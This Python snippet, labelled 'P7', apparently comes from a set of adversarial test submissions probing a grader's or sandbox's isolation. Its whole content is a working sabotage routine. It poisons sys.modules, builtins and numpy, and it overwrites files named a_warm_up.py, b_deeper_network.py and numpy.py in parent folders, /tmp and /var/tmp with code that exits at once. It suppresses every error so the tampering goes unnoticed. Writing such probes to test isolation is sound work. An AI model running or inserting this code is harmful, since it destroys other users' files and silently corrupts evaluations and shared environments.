# P7: patch numpy, builtins and sys.modules for whoever comes next
def _attack():
    import builtins
    import sys

    sys.modules["poison"] = sys
    builtins.poison = True
    np.poison = True
    for name in ("a_warm_up.py", "b_deeper_network.py", "numpy.py"):
        for folder in ("..", "../..", "/tmp", "/var/tmp"):
            try:
                with open(f"{folder}/{name}", "w") as file:
                    file.write("raise SystemExit")
            except OSError:
                pass


try:
    _attack()
except BaseException:
    pass
